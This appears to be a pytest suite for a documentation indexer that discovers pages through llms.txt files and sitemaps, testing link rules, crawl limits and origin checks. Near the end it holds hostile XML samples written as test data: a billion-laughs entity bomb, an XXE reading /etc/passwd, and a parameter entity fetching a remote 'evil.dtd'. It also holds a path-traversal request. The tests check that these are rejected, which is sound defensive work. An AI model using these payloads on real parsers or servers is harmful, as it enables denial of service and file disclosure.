"""Tests for quire.indexer.pages.discovery (llms.txt and sitemaps) on the loopback SiteServer."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
import pytest_asyncio

from quire.indexer.pages.discovery import (
    DEFAULT_MAX_DEPTH,
    DEFAULT_MAX_INDEX_BYTES,
    DEFAULT_MAX_INDEXES,
    DEFAULT_MAX_PAGES,
    UnsupportedSource,
    discover,
)
from quire.indexer.pages.fetch import PageFetcher
from quire.indexer.pages.guard import SourcePolicy, SourceRejected
from quire.indexer.pages.sitemap import SitemapError, parse_sitemap
from tests.conftest import shared_or_skip
from tests.support import docs_site
from tests.support.site_server import Reply, SiteServer

MiB = 1024 * 1024


@pytest.fixture
def server() -> Iterator[SiteServer]:
    site = SiteServer()
    with site:
        yield site


@pytest_asyncio.fixture
async def fetcher(server: SiteServer) -> AsyncIterator[PageFetcher]:
    policy = SourcePolicy([server.url])
    async with PageFetcher(policy, backoff_base=0.01, backoff_cap=0.02, max_attempts=2) as f:
        yield f


def index(*lines: str) -> Reply:
    return Reply.text("# Site\n\n" + "\n".join(lines) + "\n", content_type="text/plain")


def sitemap(*locs: str, kind: str = "urlset") -> Reply:
    tag = "url" if kind == "urlset" else "sitemap"
    body = "".join(f"<{tag}><loc>{loc}</loc></{tag}>" for loc in locs)
    xml = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f'<{kind} xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{body}</{kind}>'
    )
    return Reply.text(xml, content_type="application/xml")


def test_default_bounds() -> None:
    assert DEFAULT_MAX_DEPTH == 3
    assert DEFAULT_MAX_INDEXES == 100
    assert DEFAULT_MAX_INDEX_BYTES == 8 * 1024 * 1024
    assert DEFAULT_MAX_PAGES == 20_000


# --- the repository's docs site (tests/fixtures/docs-site) ----------------------------------------


async def test_docs_site_discovers_every_page_from_each_index(tmp_path: Path) -> None:
    """/llms.txt (with its nested /ja/llms.txt), the site root, and the sitemap index with its
    two sitemaps all find exactly the pages on disk."""
    site = docs_site.copy_site(tmp_path / "site")
    files = docs_site.page_paths(site)
    assert len(files) == docs_site.PAGES
    with SiteServer(site) as base:
        docs_site.bind_origin(site, base)
        async with PageFetcher(SourcePolicy([base])) as fetcher:
            found = await discover(base + "/llms.txt", fetcher)
            from_root = await discover(base + "/", fetcher)
            from_sitemap = await discover(base + "/sitemap.xml", fetcher)
    assert found.complete and found.errors == [] and found.skipped == 0
    assert sorted(p.path for p in found.pages) == files
    assert [p.path for p in found.pages] == docs_site.listed_paths(site)
    assert all(p.url == base + p.path for p in found.pages if p.path.isascii())
    glossary = next(p for p in found.pages if not p.path.isascii())
    assert glossary.path == "/ja/用語集.md"
    assert glossary.url == base + "/ja/%E7%94%A8%E8%AA%9E%E9%9B%86.md"
    events = next(p for p in found.pages if p.path == "/advanced/events.md")
    assert events.title == "Lifespan Events"
    assert found.indexes == [base + "/llms.txt", base + "/ja/llms.txt"]
    assert [p.path for p in from_root.pages] == [p.path for p in found.pages]
    assert from_root.complete
    assert from_sitemap.complete and from_sitemap.errors == []
    assert sorted(p.path for p in from_sitemap.pages) == files
    assert all(p.title is None for p in from_sitemap.pages)
    assert from_sitemap.indexes == [
        base + "/sitemap.xml",
        base + "/sitemap-en.xml",
        base + "/ja/sitemap.xml",
    ]


async def test_docs_site_without_llms_txt_is_found_from_its_sitemap(tmp_path: Path) -> None:
    site = docs_site.copy_site(tmp_path / "site")
    (site / "llms.txt").unlink()
    docs_site.unlist(site, ["/tutorial/cors.md"])
    with SiteServer(site) as base:
        docs_site.bind_origin(site, base)
        async with PageFetcher(SourcePolicy([base])) as fetcher:
            found = await discover(base + "/", fetcher)
    assert found.complete and found.indexes[0] == base + "/sitemap.xml"
    paths = sorted(p.path for p in found.pages)
    assert paths == [p for p in docs_site.page_paths(site) if p != "/tutorial/cors.md"]


# --- the FastAPI site (large data) ----------------------------------------------------------------


@pytest.mark.large_data
async def test_fastapi_site_discovers_exactly_277_pages() -> None:
    site = shared_or_skip("data", "docs-fastapi", "site")
    files = sorted("/" + p.relative_to(site).as_posix() for p in site.rglob("*.md"))
    with SiteServer(site) as base:
        async with PageFetcher(SourcePolicy([base])) as fetcher:
            found = await discover(base + "/llms.txt", fetcher)
            from_root = await discover(base + "/", fetcher)
    assert found.complete and found.errors == [] and found.skipped == 0
    assert len(found.pages) == 277
    assert sorted(p.path for p in found.pages) == files
    assert all(p.url == base + p.path for p in found.pages if p.path.isascii())
    events = next(p for p in found.pages if p.path == "/advanced/events.md")
    assert events.title == "Lifespan Events"
    assert found.indexes == [base + "/llms.txt"]
    assert [p.path for p in from_root.pages] == [p.path for p in found.pages]
    assert from_root.complete


# --- llms.txt links ------------------------------------------------------------------------------


async def test_link_rules(server: SiteServer, fetcher: PageFetcher) -> None:
    server.route(
        "/docs/llms.txt",
        index(
            "- [Intro](/docs/intro.md): start here",
            "- [Relative](guide.md)",
            "- [Up](../about)",
            "- [Dir](/docs/api/)",
            "- [Html](/docs/old.html)",
            "- [MDX](/docs/comp.mdx)",
            "- [Absolute](" + server.url + "/docs/abs.md)",
            "- [Fragment](/docs/intro.md#section)",
            "- [Duplicate title](/docs/intro.md)",
            "- [Logo](/img/logo.png)",
            "- [PDF](/docs/manual.pdf)",
            "- [Zip](/files/a.zip)",
            "- [JSON](/openapi.json)",
            "- [Off origin](https://other.example/x.md)",
            "- [Mail](mailto:a@example.com)",
            "- [Query](/docs/search?q=x)",
            "- [Full](/docs/llms-full.txt)",
            "- [Unsafe](/docs/a%2fb.md)",
            "![image](/docs/pic.md)",
            "`[code](/docs/in-code-span.md)`",
            "```",
            "[fenced](/docs/in-fence.md)",
            "```",
            '- [**Bold** `code` title](<angle page.md> "tooltip")',
            "- [Spaced](/docs/Ünï%20code.md)",
        ),
    )
    found = await discover(server.url + "/docs/llms.txt", fetcher)
    assert found.complete and found.errors == []
    assert [(p.path, p.title) for p in found.pages] == [
        ("/docs/intro.md", "Intro"),
        ("/docs/guide.md", "Relative"),
        ("/about.md", "Up"),
        ("/docs/api/index.md", "Dir"),
        ("/docs/old.md", "Html"),
        ("/docs/comp.mdx", "MDX"),
        ("/docs/abs.md", "Absolute"),
        ("/docs/angle page.md", "Bold code title"),
        ("/docs/Ünï code.md", "Spaced"),
    ]
    assert found.pages[-1].url == server.url + "/docs/%C3%9Cn%C3%AF%20code.md"
    assert found.skipped == 9  # 4 files, off-origin, mailto, query, llms-full, unsafe
    assert server.count("/docs/llms-full.txt") == 0
    assert server.total() == 1


async def test_nested_indexes_breadth_first(server: SiteServer, fetcher: PageFetcher) -> None:
    server.route("/llms.txt", index("- [A](/a.txt)", "- [B](/b.txt)", "- [Root](/root.md)"))
    server.route("/a.txt", index("- [A1](/a1.md)", "- [AA](/aa.txt)"))
    server.route("/b.txt", index("- [B1](/b1.md)"))
    server.route("/aa.txt", index("- [AA1](/aa1.md)"))
    found = await discover(server.url + "/llms.txt", fetcher)
    assert found.complete
    assert [p.path for p in found.pages] == ["/root.md", "/a1.md", "/b1.md", "/aa1.md"]
    assert [u.rsplit("/", 1)[1] for u in found.indexes] == ["llms.txt", "a.txt", "b.txt", "aa.txt"]


def _chain(server: SiteServer, length: int) -> None:
    server.route("/llms.txt", index("- [Zero](/p0.md)", "- [Next](/d1.txt)"))
    for depth in range(1, length + 1):
        server.route(f"/d{depth}.txt", index(f"- [P](/p{depth}.md)", f"- [N](/d{depth + 1}.txt)"))


async def test_depth_three_is_followed(server: SiteServer, fetcher: PageFetcher) -> None:
    _chain(server, 3)
    server.route("/d4.txt", Reply(404))
    found = await discover(server.url + "/llms.txt", fetcher, max_depth=3)
    # d3.txt (depth 3) is read; its link to d4.txt (depth 4) is not followed.
    assert [p.path for p in found.pages] == ["/p0.md", "/p1.md", "/p2.md", "/p3.md"]
    assert server.count("/d3.txt") == 1 and server.count("/d4.txt") == 0
    assert not found.complete
    assert any("depth 4" in e for e in found.errors)


async def test_depth_bound_is_not_hit_when_the_chain_ends_at_three(
    server: SiteServer, fetcher: PageFetcher
) -> None:
    server.route("/llms.txt", index("- [N](/d1.txt)"))
    server.route("/d1.txt", index("- [N](/d2.txt)"))
    server.route("/d2.txt", index("- [N](/d3.txt)"))
    server.route("/d3.txt", index("- [Deep](/deep.md)"))
    found = await discover(server.url + "/llms.txt", fetcher)
    assert found.complete and [p.path for p in found.pages] == ["/deep.md"]


async def test_cycles_terminate(server: SiteServer, fetcher: PageFetcher) -> None:
    server.route("/llms.txt", index("- [Self](/llms.txt)", "- [A](/a.txt)", "- [P](/p.md)"))
    server.route("/a.txt", index("- [Back](/llms.txt)", "- [Self](a.txt)", "- [Q](/q.md)"))
    found = await discover(server.url + "/llms.txt", fetcher)
    assert found.complete and [p.path for p in found.pages] == ["/p.md", "/q.md"]
    assert server.count("/llms.txt") == 1 and server.count("/a.txt") == 1


@pytest.mark.parametrize(("nested", "complete"), [(99, True), (100, False)])
async def test_index_count_bound(
    server: SiteServer, fetcher: PageFetcher, nested: int, complete: bool
) -> None:
    server.route("/llms.txt", index(*(f"- [I{i}](/i{i}.txt)" for i in range(nested))))
    for i in range(nested):
        server.route(f"/i{i}.txt", index(f"- [P{i}](/p{i}.md)"))
    found = await discover(server.url + "/llms.txt", fetcher)
    assert len(found.indexes) == 100  # the root and 99 nested ones
    assert found.complete is complete
    assert len(found.pages) == 99
    if not complete:
        assert server.count(f"/i{nested - 1}.txt") == 0
        assert any("more than 100 indexes" in e for e in found.errors)


async def test_index_byte_bound_small(server: SiteServer, fetcher: PageFetcher) -> None:
    body = "- [P](/p.md)\n"
    server.route("/ok.txt", Reply.text(body.ljust(1000, "x")))
    server.route("/big.txt", Reply.text(body.ljust(1001, "x")))
    ok = await discover(server.url + "/ok.txt", fetcher, max_index_bytes=1000)
    big = await discover(server.url + "/big.txt", fetcher, max_index_bytes=1000)
    assert ok.complete and [p.path for p in ok.pages] == ["/p.md"]
    assert not big.complete and big.pages == [] and "too_large" in big.errors[0]


async def test_index_byte_bound_default_is_8_mib(server: SiteServer, fetcher: PageFetcher) -> None:
    head = "- [P](/p.md)\n"
    padding = ("x" * 1023 + "\n") * (8 * 1024)
    exact = (head + padding)[: 8 * MiB]
    server.route("/exact.txt", Reply.text(exact))
    server.route("/over.txt", Reply.endless(8 * MiB + 1))
    ok = await discover(server.url + "/exact.txt", fetcher)
    assert ok.complete and [p.path for p in ok.pages] == ["/p.md"]
    over = await discover(server.url + "/over.txt", fetcher)
    assert not over.complete and "too_large" in over.errors[0]
    assert server.count("/over.txt") == 1


async def test_page_bound(server: SiteServer, fetcher: PageFetcher) -> None:
    server.route("/five.txt", index(*(f"- [P{i}](/p{i}.md)" for i in range(5)), "- [P0](/p0)"))
    server.route("/six.txt", index(*(f"- [P{i}](/p{i}.md)" for i in range(6))))
    five = await discover(server.url + "/five.txt", fetcher, max_pages=5)
    six = await discover(server.url + "/six.txt", fetcher, max_pages=5)
    assert five.complete and len(five.pages) == 5
    assert not six.complete and len(six.pages) == 5
    assert any("more than 5 pages" in e for e in six.errors)


@pytest.mark.slow  # 10 s under load (`make test-fast` leaves it out)
async def test_page_bound_default_is_20000(server: SiteServer, fetcher: PageFetcher) -> None:
    server.route("/exact.txt", index(*(f"- [P](/p{i})" for i in range(20_000))))
    server.route(
        "/over.txt", index(*(f"- [P](/p{i})" for i in range(20_000)), "- [Extra](/extra.txt)")
    )
    server.route("/extra.txt", index("- [Last](/last.md)"))
    exact = await discover(server.url + "/exact.txt", fetcher)
    over = await discover(server.url + "/over.txt", fetcher)
    assert exact.complete and len(exact.pages) == 20_000
    assert not over.complete and len(over.pages) == 20_000
    assert all(p.path != "/last.md" for p in over.pages)


async def test_failed_nested_index_makes_discovery_incomplete(
    server: SiteServer, fetcher: PageFetcher
) -> None:
    server.route("/llms.txt", index("- [A](/a.txt)", "- [Gone](/gone.txt)", "- [P](/p.md)"))
    server.route("/a.txt", Reply(500))
    server.route("/gone.txt", Reply(404))
    found = await discover(server.url + "/llms.txt", fetcher)
    assert not found.complete and [p.path for p in found.pages] == ["/p.md"]
    assert len(found.errors) == 2
    assert server.count("/a.txt") == 2  # retried (max_attempts=2)


async def test_unreadable_root_index(server: SiteServer, fetcher: PageFetcher) -> None:
    server.route("/llms.txt", Reply(404))
    found = await discover(server.url + "/llms.txt", fetcher)
    assert not found.complete and found.pages == [] and "not_found" in found.errors[0]


async def test_unsupported_and_rejected_sources(server: SiteServer, fetcher: PageFetcher) -> None:
    with pytest.raises(UnsupportedSource):
        await discover(server.url + "/docs/page.md", fetcher)
    with pytest.raises(SourceRejected):
        await discover("http://127.0.0.1:1/llms.txt", fetcher)
    with pytest.raises(SourceRejected):
        await discover("https://10.0.0.1/llms.txt", fetcher)
    assert server.total() == 0


# --- site roots ----------------------------------------------------------------------------------


async def test_root_prefers_llms_txt(server: SiteServer, fetcher: PageFetcher) -> None:
    server.route("/llms.txt", index("- [A](/a.md)"))
    server.route("/sitemap.xml", sitemap(server.url + "/b"))
    found = await discover(server.url, fetcher)
    assert found.complete and [p.path for p in found.pages] == ["/a.md"]
    assert server.count("/sitemap.xml") == 0


async def test_root_falls_back_to_sitemap(server: SiteServer, fetcher: PageFetcher) -> None:
    server.route("/docs/sitemap.xml", sitemap(server.url + "/docs/b", server.url + "/docs/c/"))
    found = await discover(server.url + "/docs/", fetcher)
    assert found.complete
    assert [(p.path, p.title) for p in found.pages] == [
        ("/docs/b.md", None),
        ("/docs/c/index.md", None),
    ]
    assert server.count("/docs/llms.txt") == 1


async def test_root_with_failing_llms_txt_uses_sitemap_but_is_incomplete(
    server: SiteServer, fetcher: PageFetcher
) -> None:
    server.route("/llms.txt", Reply(503))
    server.route("/sitemap.xml", sitemap(server.url + "/b.html"))
    found = await discover(server.url + "/", fetcher)
    assert [p.path for p in found.pages] == ["/b.md"]
    assert not found.complete and "llms.txt" in found.errors[0]


async def test_root_without_any_index(server: SiteServer, fetcher: PageFetcher) -> None:
    found = await discover(server.url + "/", fetcher)
    assert not found.complete and found.pages == []
    assert "no llms.txt or sitemap.xml" in found.errors[0]


# --- sitemaps ------------------------------------------------------------------------------------


async def test_sitemap_index_and_locs(server: SiteServer, fetcher: PageFetcher) -> None:
    server.route(
        "/sitemap.xml",
        sitemap(server.url + "/s1.xml", server.url + "/s2.xml", kind="sitemapindex"),
    )
    server.route(
        "/s1.xml",
        sitemap(
            server.url + "/",
            server.url + "/guide/",
            server.url + "/guide/intro.html",
            server.url + "/img/x.png",
            "https://other.example/y",
        ),
    )
    server.route("/s2.xml", sitemap(server.url + "/guide/intro.md", server.url + "/api"))
    found = await discover(server.url + "/sitemap.xml", fetcher)
    assert found.complete
    assert [p.path for p in found.pages] == [
        "/index.md",
        "/guide/index.md",
        "/guide/intro.md",
        "/api.md",
    ]
    assert found.skipped == 2


async def test_off_origin_nested_sitemap_is_incomplete(
    server: SiteServer, fetcher: PageFetcher
) -> None:
    server.route(
        "/sitemap.xml",
        sitemap("https://cdn.example/s.xml", server.url + "/s1.xml", kind="sitemapindex"),
    )
    server.route("/s1.xml", sitemap(server.url + "/a"))
    found = await discover(server.url + "/sitemap.xml", fetcher)
    assert not found.complete and [p.path for p in found.pages] == ["/a.md"]


async def test_sitemap_depth_bound(server: SiteServer, fetcher: PageFetcher) -> None:
    server.route("/sitemap.xml", sitemap(server.url + "/s1.xml", kind="sitemapindex"))
    server.route("/s1.xml", sitemap(server.url + "/s2.xml", kind="sitemapindex"))
    server.route("/s2.xml", sitemap(server.url + "/s3.xml", kind="sitemapindex"))
    server.route("/s3.xml", sitemap(server.url + "/s4.xml", kind="sitemapindex"))
    server.route("/s4.xml", sitemap(server.url + "/deep"))
    found = await discover(server.url + "/sitemap.xml", fetcher)
    assert not found.complete and found.pages == []
    assert server.count("/s3.xml") == 1 and server.count("/s4.xml") == 0


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<urlset><url><loc>&lol3;</loc></url></urlset>"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<urlset><url><loc>&xxe;</loc></url></urlset>"""

XXE_PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE urlset [<!ENTITY % p SYSTEM "http://10.0.0.1/evil.dtd"> %p;]>
<urlset><url><loc>http://x/a</loc></url></urlset>"""


@pytest.mark.parametrize(
    "text",
    [BILLION_LAUGHS, XXE, XXE_PARAMETER, "<urlset><url><loc>x</loc>", "not xml", "<html></html>"],
)
def test_unsafe_or_bad_sitemaps_are_rejected(text: str) -> None:
    with pytest.raises(SitemapError):
        parse_sitemap(text)


def test_sitemap_parser_accepts_plain_doctype_and_namespaces() -> None:
    text = (
        '<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE urlset>'
        '<s:urlset xmlns:s="http://www.sitemaps.org/schemas/sitemap/0.9">'
        "<s:url><s:loc> http://h/a&amp;b </s:loc><s:lastmod>2024</s:lastmod></s:url>"
        "<s:url><s:loc>http://h/é</s:loc></s:url><loc>http://h/not-in-url</loc>"
        "</s:urlset>"
    )
    parsed = parse_sitemap(text)
    assert parsed.kind == "urlset" and parsed.locs == ["http://h/a&b", "http://h/é"]


async def test_entity_sitemap_is_an_index_error(server: SiteServer, fetcher: PageFetcher) -> None:
    server.route("/sitemap.xml", Reply.text(BILLION_LAUGHS, content_type="application/xml"))
    found = await discover(server.url + "/sitemap.xml", fetcher)
    assert not found.complete and found.pages == []
    assert re.search(r"entit", found.errors[0])


async def test_llms_txt_may_link_a_sitemap(server: SiteServer, fetcher: PageFetcher) -> None:
    server.route("/llms.txt", index("- [Map](/sitemap.xml)", "- [A](/a.md)"))
    server.route("/sitemap.xml", sitemap(server.url + "/b"))
    found = await discover(server.url + "/llms.txt", fetcher)
    assert found.complete and [p.path for p in found.pages] == ["/a.md", "/b.md"]


def test_site_server_serves_files(tmp_path: Path) -> None:
    import httpx

    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "index.md").write_text("# D\n")
    (tmp_path / "a.md").write_text("# A\n")
    server = SiteServer(tmp_path)
    with server as base:
        assert httpx.get(base + "/a.md").text == "# A\n"
        assert httpx.get(base + "/d/").text == "# D\n"
        assert httpx.get(base + "/../etc/passwd").status_code == 404
        assert httpx.get(base + "/missing.md").status_code == 404
        server.route("/a.md", Reply(500), Reply.file())
        assert httpx.get(base + "/a.md").status_code == 500
        assert httpx.get(base + "/a.md").text == "# A\n"
        assert server.count("/a.md") == 3 and server.total() == 6
        server.reset_counts()
        assert server.total() == 0 and server.requests == []
